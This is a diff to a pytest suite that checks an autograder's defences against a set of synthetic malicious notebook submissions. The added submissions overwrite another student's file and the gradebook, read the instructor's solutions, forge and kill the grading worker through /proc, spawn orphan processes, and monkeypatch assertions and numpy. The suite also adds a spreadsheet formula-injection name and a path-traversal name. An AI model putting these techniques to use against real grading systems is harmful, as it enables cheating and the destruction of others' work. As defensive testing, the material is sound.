@@ -1,4 +1,5 @@
-"""Tests for course_lib.grade: the autograder, on a small assignment and a folder of submissions.
+"""Tests for course_lib.instructor.grade: the autograder, on a small assignment and a folder of
+submissions.
 
 One synthetic assignment (``ch99_demo``: four exercises, 5 points, hidden tests, one real
 self-check) and one folder of submissions made here: a perfect one, an empty one, a partly
@@ -10,6 +11,7 @@ each test asserts the exact points, the reason and the flags of one of them.
 
 from __future__ import annotations
 
+import copy
 import csv
 import hashlib
 import json
@@ -20,9 +22,11 @@ import nbformat
 import pytest
 from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
 
-from course_lib import exercises, grade
+from course_lib.instructor import exercises, grade
 
 NAME = "ch99_demo"
+SANDBOX = grade.sandbox.find_bwrap()[0] is not None
+ATTACKS = ("quinn", "rita", "mallory", "pat", "vic", "tracer", "oscar", "pat2", "net")
 
 ADD = '''def add(a, b):
     """a + b."""
@@ -102,6 +106,105 @@ def _edit(nb, function: str, new_body: str):
             cell.source = new_body
             return nb
     raise AssertionError(function)
+
+
+ADD_STUB = "def add(a, b):\n    raise NotImplementedError\n\n\n"
+STRAY_MARK = "31337.25"  # the sleep time of the processes the `vic` attack leaves behind
+
+
+def attacks(subs: Path, gradebook: Path, course: Path) -> dict[str, str]:
+    """Code that a submission runs to forge its grade or harm others (none solves anything)."""
+    victim = subs / "victim_ch99_demo.ipynb"
+    solutions = course / "solutions" / f"{NAME}.ipynb"
+    return {
+        # the audit's A18: overwrite another student's submission and the gradebook
+        "quinn": (
+            f"for _p in [{str(victim)!r}, {str(gradebook)!r}]:\n"
+            "    try:\n"
+            "        open(_p, 'w').write('OVERWRITTEN BY QUINN')\n"
+            "    except OSError:\n"
+            "        pass\n"
+        ),
+        # A19: run the instructor's solutions, read from disk
+        "rita": (
+            "import json\n"
+            "try:\n"
+            f"    _nb = json.load(open({str(solutions)!r}))\n"
+            "    for _c in _nb['cells']:\n"
+            "        if _c['cell_type'] == 'code' and 'def ' in ''.join(_c['source']):\n"
+            "            exec(''.join(_c['source']), globals())\n"
+            "except OSError:\n"
+            "    pass\n"
+        ),
+        # A33: find the worker's job through /proc, forge its result, kill it
+        "mallory": (
+            "import os, signal, json\n"
+            "_me = os.getppid()\n"
+            "try:\n"
+            "    _argv = open(f'/proc/{_me}/cmdline').read().split('\\0')\n"
+            "    _fd = int(_argv[_argv.index('--worker') + 1])\n"
+            "    _forged = {'token': '?', 'exercises': [], 'flags': [], 'notes': []}\n"
+            "    open(f'/proc/{_me}/fd/{_fd}', 'w').write(json.dumps(_forged))\n"
+            "except (OSError, ValueError, IndexError):\n"
+            "    pass\n"
+            "for _pid in (_me, os.getpgid(0)):\n"
+            "    try:\n"
+            "        os.kill(_pid, signal.SIGKILL)\n"
+            "    except OSError:\n"
+            "        pass\n"
+        ),
+        # A16: rebind the notebook's `checks` to an object whose every check passes
+        "pat": (
+            "class _Pass:\n"
+            "    def __getattr__(self, name):\n"
+            "        return lambda *a, **k: None\n\n\n"
+            "checks = _Pass()\n"
+        ),
+        # A23: processes that try to outlive the kernel
+        "vic": (
+            "import subprocess\n"
+            "for _ in range(3):\n"
+            f"    subprocess.Popen(['sleep', '{STRAY_MARK}'])\n"
+            f"subprocess.Popen(['setsid', 'sleep', '{STRAY_MARK}'])\n"
+            f"subprocess.Popen('nohup sleep {STRAY_MARK} >/dev/null 2>&1 &', shell=True)\n"
+        ),
+        # a trace hook that skips every line of a test that raises
+        "tracer": ("import sys\nsys.settrace(lambda *a: None)\n"),
+        # A15: make numpy's comparisons always succeed
+        "oscar": "import numpy\nnumpy.allclose = lambda *a, **k: True\n",
+        # A17: swap the exception a failing assert raises for one nobody catches as a failure
+        "pat2": (
+            "import builtins\n"
+            "builtins.AssertionError = type('AssertionError', (BaseException,), {})\n"
+        ),
+        # the network: connect to a server on the machine's loopback
+        "net": (
+            "import socket\n"
+            "try:\n"
+            "    socket.create_connection(('127.0.0.1', 22), timeout=1)\n"
+            "except OSError:\n"
+            "    pass\n"
+        ),
+    }
+
+
+def _processes_with(mark: str) -> list[int]:
+    found = []
+    for entry in Path("/proc").glob("[0-9]*"):
+        try:
+            if mark in (entry / "cmdline").read_bytes().decode("utf-8", "replace"):
+                found.append(int(entry.name))
+        except OSError:
+            pass
+    return found
+
+
+def _kill_all(pids: list[int]) -> None:
+    for pid in pids:
+        try:
+            os.kill(pid, 9)
+        except OSError:
+            pass
 
 
 def _code_cell(nb, function: str):
@@ -194,9 +297,27 @@ def graded(course: Path, tmp_path_factory: pytest.TempPathFactory):
     write("carol/ch99_demo.ipynb", solution)
     write("ch99_demo.ipynb", blank)
 
-    before = {p: (p.read_bytes(), p.stat().st_mtime_ns) for p in subs.rglob("*.ipynb")}
+    # attacks on the grader itself (the audit's, and more): each aims at files it should not
+    # reach; all of them are inside this test's temporary folders
     out = tmp_path_factory.mktemp("grades") / "grades.csv"
     out.write_text("an older gradebook\n")
+    write("victim_ch99_demo.ipynb", solution)
+    for name, code in attacks(subs, out, course).items():
+        write(f"{name}_ch99_demo.ipynb", _edit(blank, "add", ADD_STUB + code))
+    v3 = nbformat.writes(nbformat.convert(copy.deepcopy(solution), 3), version=3)
+    (subs / "oldformat_ch99_demo.ipynb").write_text(v3)
+    dup = nbformat.from_dict(json.loads(json.dumps(solution)))
+    dup.cells.insert(4, nbformat.from_dict(json.loads(json.dumps(_code_cell(solution, "add")))))
+    write("duplicated_ch99_demo.ipynb", dup)
+    named = nbformat.from_dict(json.loads(json.dumps(solution)))
+    named.metadata["course"] = {"student": '=HYPERLINK("http://example.invalid/?"&A3,"x")'}
+    write("formula_ch99_demo.ipynb", named)
+    (subs / "linked_ch99_demo.ipynb").symlink_to(subs / "perfect_ch99_demo.ipynb")
+    traversal = nbformat.from_dict(json.loads(json.dumps(solution)))
+    traversal.metadata["course"] = {"student": "../../etc/x"}
+    write("traversal_ch99_demo.ipynb", traversal)
+
+    before = {p: (p.read_bytes(), p.stat().st_mtime_ns) for p in subs.rglob("*.ipynb")}
     status = grade.main(
         [
             str(subs),
@@ -210,7 +331,10 @@ def graded(course: Path, tmp_path_factory: pytest.TempPathFactory):
     )  # fmt: skip
     after = {p: (p.read_bytes(), p.stat().st_mtime_ns) for p in subs.rglob("*.ipynb")}
     rows = list(csv.DictReader(out.open(encoding="utf-8")))
+    strays = _processes_with(STRAY_MARK)
+    _kill_all(strays)
     return {
+        "strays": strays,
         "status": status,
         "before": before,
         "after": after,
@@ -268,9 +392,18 @@ def test_the_command_grades_every_submission_and_modifies_none(graded) -> None:
         ("forged_ch99_demo.ipynb", (2, 0, 1, 1)),
         ("transformer_ch99_demo.ipynb", (0, 0, 0, 0)),
         ("ch99_demo.ipynb", (0, 0, 0, 0)),
+        ("victim_ch99_demo.ipynb", (2, 1, 1, 1)),
+        ("oldformat_ch99_demo.ipynb", (2, 1, 1, 1)),
+        ("duplicated_ch99_demo.ipynb", (2, 1, 1, 1)),
+        ("formula_ch99_demo.ipynb", (2, 1, 1, 1)),
+        ("linked_ch99_demo.ipynb", (2, 1, 1, 1)),
+        ("traversal_ch99_demo.ipynb", (2, 1, 1, 1)),
+        *[(f"{name}_ch99_demo.ipynb", (0, 0, 0, 0)) for name in ATTACKS],
     ],
 )
 def test_exact_points(graded, file: str, expected: tuple[int, ...]) -> None:
+    if file.startswith("rita") and not SANDBOX:
+        pytest.skip("only the sandbox keeps solutions/ out of a kernel's reach (no bwrap here)")
     got = points(graded, file)
     assert [got[k] for k in ("add", "mul", "sigmoid_prime", "square")] == list(expected)
     assert got["total"] == sum(expected)
@@ -312,6 +445,53 @@ def test_flags(graded) -> None:
     nobody = row(graded, "ch99_demo.ipynb")
     assert nobody["student"].startswith("unidentified-")
     assert "student not identified" in nobody["flags"]
+
+
+def test_every_attack_is_flagged(graded) -> None:
+    for name in ATTACKS:
+        flags = row(graded, f"{name}_ch99_demo.ipynb")["flags"]
+        assert flags, f"{name}: no flag"
+    assert "rebinds `checks`" in row(graded, "pat_ch99_demo.ipynb")["flags"]
+    assert "grading failed" in row(graded, "mallory_ch99_demo.ipynb")["flags"] or SANDBOX
+    for name in ("tracer", "oscar", "pat2"):
+        assert "tampering" in row(graded, f"{name}_ch99_demo.ipynb")["flags"], name
+
+
+def test_no_process_outlives_the_run(graded) -> None:
+    assert graded["strays"] == [], "processes started by a submission survived the run"
+
+
+def test_nothing_of_anyone_else_is_touched(graded) -> None:
+    # the victim's file and the old gradebook (its backup) are intact; every file is unchanged
+    assert graded["before"] == graded["after"]
+    backups = list(graded["out"].parent.glob("grades.csv.bak-*"))
+    assert [b.read_text() for b in backups] == ["an older gradebook\n"]
+    assert row(graded, "victim_ch99_demo.ipynb")["total"] == "5"
+    assert "restored" not in row(graded, "victim_ch99_demo.ipynb")["flags"] or not SANDBOX
+
+
+def test_a_formula_in_a_name_is_not_run_by_a_spreadsheet(graded) -> None:
+    text = graded["out"].read_text(encoding="utf-8")
+    assert "\n\"'=HYPERLINK(" in text or "\n'=HYPERLINK(" in text
+    assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text
+
+
+def test_old_format_duplicates_links_and_dead_kernels_are_explained(graded) -> None:
+    feedback = graded["out"].parent / "feedback"
+    assert "nbformat 3" in (feedback / "oldformat.html").read_text()
+    dup = (feedback / "duplicated.html").read_text()
+    assert "appears 2 times" in dup and "cells were moved" not in dup
+    assert "symbolic link" in row(graded, "linked_ch99_demo.ipynb")["flags"]
+    memory = (feedback / "memory.html").read_text()  # the blow-up is in the student's own cell
+    assert "one of your code cells: stopped: used more than" in memory
+
+
+def test_a_name_cannot_place_a_feedback_page_elsewhere(graded) -> None:
+    feedback = graded["out"].parent / "feedback"
+    pages = sorted(p.name for p in feedback.iterdir())
+    assert "_.._etc_x.html" in pages  # inside feedback/, and not a hidden dot-file
+    assert not any(p.startswith(".") for p in pages)
+    assert not (graded["out"].parent.parent / "etc").exists()
 
 
 def test_students_are_identified_from_file_and_folder_names(graded) -> None:
